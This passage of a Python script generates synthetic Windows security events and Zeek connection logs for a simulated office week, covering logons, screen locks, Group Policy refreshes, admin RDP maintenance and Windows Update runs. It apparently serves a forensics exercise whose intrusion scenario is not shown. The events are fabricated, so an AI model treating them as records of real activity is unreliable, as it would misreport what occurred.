                # SMB to the file server (mapped drive)
                conn(t, h.ip, rng.randint(49700, 65000), IP["FS01"], 445, "tcp", "smb",
                     rng.uniform(0.5, 60), rng.randint(2000, 90000), rng.randint(5000, 4000000))

    def lock_unlock(self, t_lock: datetime, t_unlock: datetime) -> None:
        h = self.h
        f = {"TargetUserSid": sid(self.user), "TargetUserName": self.user,
             "TargetDomainName": DOMAIN, "TargetLogonId": self.lid, "SessionId": "1"}
        h.emit(t_lock, 4800, SEC, dict(f))
        lid7 = h.logon(t_unlock, self.user, 7, src_ip="127.0.0.1", workstation=h.name)
        h.emit(t_unlock + timedelta(milliseconds=40), 4801, SEC, dict(f))
        h.logoff(t_unlock + timedelta(seconds=self.rng.uniform(0.5, 2)), self.user, 7, lid7)

    def end(self, t: datetime) -> None:
        h = self.h
        h.emit(t, 4647, SEC, {"TargetUserSid": sid(self.user), "TargetUserName": self.user,
                              "TargetDomainName": DOMAIN, "TargetLogonId": self.lid})
        h.logoff(t + timedelta(seconds=self.rng.uniform(2, 6)), self.user, 2, self.lid)


def workstation_day(h: WinHost, day: int, rng: random.Random, ltype: int = 2,
                    start: datetime | None = None, end: datetime | None = None) -> Desk:
    user = USER_OF[h.name]
    d = Desk(h, user, rng)
    if start is None:
        start = at(day, 8, 20) + timedelta(minutes=rng.uniform(0, 45))
    dc_tgt(start - timedelta(seconds=0.3), user, h.ip, rng)
    dc_tgs(start - timedelta(seconds=0.1), user, f"{h.name}$", h.ip, rng)
    t = d.start(start, ltype)
    # mapped drive on the file server
    tm = t + timedelta(seconds=rng.uniform(5, 40))
    dc_tgs(tm, user, "FS01$", h.ip, rng)
    fs_lid = FS01.logon(tm + timedelta(milliseconds=30), user, 3, src_ip=h.ip,
                        src_port=str(rng.randint(49700, 65000)), package="Kerberos",
                        lproc="Kerberos")
    conn(tm, h.ip, rng.randint(49700, 65000), IP["FS01"], 445, "tcp", "smb",
         rng.uniform(0.2, 4), rng.randint(3000, 9000), rng.randint(6000, 40000))
    if end is None:
        end = at(day, 17, 5) + timedelta(minutes=rng.uniform(0, 50))
    lunch = at(day, 12, 0) + timedelta(minutes=rng.uniform(-15, 30))
    d.activity(t + timedelta(minutes=2), lunch, rng.randint(7, 11))
    back = lunch + timedelta(minutes=rng.uniform(35, 55))
    d.lock_unlock(lunch, back)
    d.activity(back + timedelta(minutes=1), end - timedelta(minutes=3), rng.randint(7, 11))
    d.end(end)
    FS01.logoff(end + timedelta(seconds=rng.uniform(3, 9)), user, 3, fs_lid)
    return d


def gp_refresh(h: WinHost, day: int, rng: random.Random) -> None:
    """Machine-account Kerberos logons on the DC for Group Policy refresh (every ~90-120 min)."""
    t = at(day, 7, 0) + timedelta(minutes=rng.uniform(0, 90))
    while t < at(day, 19, 0):
        acct = f"{h.name}$"
        lid = DC01.logon(t, acct, 3, src_ip=h.ip, src_port=str(rng.randint(49700, 65000)),
                         package="Kerberos", lproc="Kerberos", workstation="-")
        conn(t - timedelta(milliseconds=20), h.ip, rng.randint(49700, 65000), IP["DC01"], 389,
             "tcp", "ldap", rng.uniform(0.01, 0.2), rng.randint(600, 2500), rng.randint(1500, 9000))
        conn(t, h.ip, rng.randint(49700, 65000), IP["DC01"], 445, "tcp", "smb",
             rng.uniform(0.05, 0.6), rng.randint(1500, 5000), rng.randint(3000, 30000))
        DC01.logoff(t + timedelta(seconds=rng.uniform(0.5, 3)), acct, 3, lid)
        t += timedelta(minutes=rng.uniform(110, 150))


def server_background(rng: random.Random) -> None:
    """Quiet server noise: Defender cache maintenance, WMI, Windows Update, admin maintenance."""
    for day in range(5):
        for h in (FS01,):
            for _ in range(rng.randint(3, 5)):
                t = at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000))
                k = rng.random()
                if k < 0.4:
                    h.proc(t, r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                           r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", h.svc_dcom,
                           user="NT AUTHORITY\\NETWORK SERVICE", il="System",
                           meta=msmeta("WMI Provider Host", "Wmiprvse.exe"))
                elif k < 0.7:
                    h.proc(t, DEFENDER + r"\MpCmdRun.exe",
                           f'"{DEFENDER}\\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance',
                           h.svc_sched, il="System",
                           meta=("4.18.25010.11", "Microsoft Malware Protection Command Line Utility",
                                 "Microsoft\u00ae Windows\u00ae Operating System",
                                 "Microsoft Corporation", "MpCmdRun.exe"))
                else:
                    h.proc(t, r"C:\Windows\System32\svchost.exe",
                           r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS", h.services,
                           il="System", meta=msmeta("Host Process for Windows Services", "svchost.exe"))
    # Wednesday: it_admin's routine RDP maintenance on FS01 (Disk Management / share review)
    t = at(WED, 10, 12, 7)
    lid = FS01.logon(t, "it_admin", 10, src_ip=IP["admin"], src_port=str(rng.randint(49700, 65000)),
                     workstation="ADMIN-PC", package="Negotiate", lproc="User32 ", elevated=True,
                     proc_name=r"C:\Windows\System32\svchost.exe")
    FS01.special_privs(t + timedelta(milliseconds=3), "it_admin", lid)
    conn(t - timedelta(seconds=1), IP["admin"], rng.randint(49700, 65000), IP["FS01"], 3389, "tcp",
         "ssl", 1431.2, 412000, 2900000)
    base = Proc(FS01.winlogon.guid, FS01.winlogon.pid, FS01.winlogon.image, FS01.winlogon.cmd,
                "CORP\\it_admin", "High", r"C:\Windows\system32" + "\\", lid)
    ui = FS01.proc(t + timedelta(seconds=3), r"C:\Windows\System32\userinit.exe",
                   r"C:\Windows\system32\userinit.exe", base, meta=msmeta("Userinit Logon Application",
                                                                         "USERINIT.EXE"))
    ex = FS01.proc(t + timedelta(seconds=4), r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE",
                   ui, meta=msmeta("Windows Explorer", "EXPLORER.EXE"))
    mmc = FS01.proc(t + timedelta(seconds=61), r"C:\Windows\System32\mmc.exe",
                    r'"C:\Windows\system32\mmc.exe" "C:\Windows\system32\fsmgmt.msc" ', ex,
                    meta=msmeta("Microsoft Management Console", "mmc.exe"))
    FS01.proc(t + timedelta(seconds=410), r"C:\Windows\System32\mmc.exe",
              r'"C:\Windows\system32\mmc.exe" "C:\Windows\system32\diskmgmt.msc" ', ex,
              meta=msmeta("Microsoft Management Console", "mmc.exe"))
    FS01.emit(t + timedelta(seconds=1420), 4647, SEC, {
        "TargetUserSid": sid("it_admin"), "TargetUserName": "it_admin", "TargetDomainName": DOMAIN,
        "TargetLogonId": lid})
    FS01.logoff(t + timedelta(seconds=1424), "it_admin", 10, lid)
    del mmc


def windows_update(rng: random.Random) -> None:
    """Wednesday late morning: Defender intelligence + MSRT install on both workstations."""
    for h in (WS01, WS02):
        t = at(WED, 11, 2) + timedelta(minutes=rng.uniform(0, 20))
        uso = h.proc(t, r"C:\Windows\System32\MoUsoCoreWorker.exe",
                     r"C:\Windows\System32\mousocoreworker.exe -Embedding", h.svc_dcom,
                     user="NT AUTHORITY\\SYSTEM", il="System",
                     meta=msmeta("MoUSO Core Worker Process", "MoUsoCoreWorker.exe"))
        for i in range(3):
            conn(t + timedelta(seconds=5 + i * 7), h.ip, rng.randint(49700, 65000), rng.choice(EXT_WU),
                 443, "tcp", "ssl", rng.uniform(3, 40), rng.randint(2000, 9000),
                 rng.randint(2_000_000, 9_000_000))
        tw = h.proc(t + timedelta(seconds=41), r"C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_"
                    r"31bf3856ad364e35_10.0.22621.4825_none_5f1c0d2b7d3c8e4a\TiWorker.exe",
                    r"C:\Windows\winsxs\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_"
                    r"10.0.22621.4825_none_5f1c0d2b7d3c8e4a\TiWorker.exe -Embedding", h.svc_dcom,
                    user="NT AUTHORITY\\SYSTEM", il="System",
                    meta=msmeta("Windows Modules Installer Worker", "TiWorker.exe"))
        h.proc(t + timedelta(seconds=70), r"C:\Windows\System32\MRT.exe",
               r'"C:\Windows\system32\MRT.exe" /EHB /Q', uso,
               meta=("5.133.25020.1", "Microsoft Windows Malicious Software Removal Tool",
                     "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation", "mrt.exe"))
        for j, title in enumerate([
            "Security Intelligence Update for Microsoft Defender Antivirus - KB2267602 "
            "(Version 1.425.118.0) - Current Channel (Broad)",
            "Windows Malicious Software Removal Tool x64 - v5.133 (KB890830)",
        ]):
            h.emit(t + timedelta(seconds=95 + j * 140), 19, WUCLIENT, {
                "updateTitle": title, "updateGuid": "{%08x-%04x-%04x-%04x-%012x}" % tuple(
                    rng.getrandbits(b) for b in (32, 16, 16, 16, 48)),
                "updateRevisionNumber": str(200 + j)},
                message=f"Installation Successful: Windows successfully installed the following "
                        f"update: {title}")
        del tw


def windows_background() -> None:
    rng = rstream("windows-background")
    for day in range(5):
        # Bob's Thursday starts with the clock-skew story (see story_clock_skew).
        if day != THU:
            workstation_day(WS02, day, rng)
        # Alice's Thursday and Friday are driven by the intrusion story.
        if day not in (THU, FRI):
            workstation_day(WS01, day, rng)
        for h in (WS01, WS02, FS01):
            gp_refresh(h, day, rng)
    server_background(rng)
    windows_update(rng)


# --------------------------------------------------------------------------------------------
# main
# --------------------------------------------------------------------------------------------

def write_zeek(path: str) -> int:
    ZEEK.sort(key=lambda r: (r[0], r[1][1]))
    opened = WEEK_START.strftime("%Y-%m-%d-%H-%M-%S")
    closed = (WEEK_END + timedelta(seconds=1)).strftime("%Y-%m-%d-%H-%M-%S")
    head = [
        "#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-",
        "#path\tconn", f"#open\t{opened}",
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\t"
        "orig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\t"
        "orig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents",
        "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\t"
        "string\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]",
    ]
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for line in head:
            fh.write(line + "\n")
        for _, row in ZEEK:
            fh.write("\t".join(row) + "\n")
        fh.write(f"#close\t{closed}\n")
    return len(ZEEK)


def out(*parts: str) -> str:
    p = os.path.join(HERE, *parts)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def main() -> None:
    windows_background()
    counts = {}
    for h in WINHOSTS:
        counts[f"windows/{h.name}.jsonl"] = h.write(out("windows", f"{h.name}.jsonl"))
    counts["network/conn.log"] = write_zeek(out("network", "conn.log"))
    for k, v in counts.items():
        print(f"{v:6d}  {k}")


if __name__ == "__main__":
    main()
